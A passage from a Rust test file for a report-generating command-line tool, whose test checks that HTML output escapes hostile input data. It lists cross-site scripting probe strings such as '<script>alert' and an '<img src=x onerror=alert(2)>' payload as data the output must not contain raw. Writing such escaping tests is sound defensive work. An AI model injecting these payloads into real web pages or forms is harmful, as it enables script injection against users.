        annexes >= 2,
        "the annexes hold the cards and the suggestions"
    );
}

#[test]
fn html_output_escapes_data() {
    let env = hostile_data();
    let out = run(
        &env,
        &[
            "report",
            "--draft",
            "--date",
            "2021-12-02",
            "--format",
            "html",
        ],
    );
    out.assert_code(0);
    let html = &out.stdout;
    for raw in [
        "<script>alert",
        "<img src=x",
        "<b>grassetto",
        "onerror=alert(2)>",
    ] {
        assert!(
            !html.contains(raw),
            "the HTML report holds raw markup {raw:?}"
        );
    }
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the title is shown, escaped"
    );
    assert!(html.contains("&lt;img src=x onerror=alert(2)&gt;"));
}
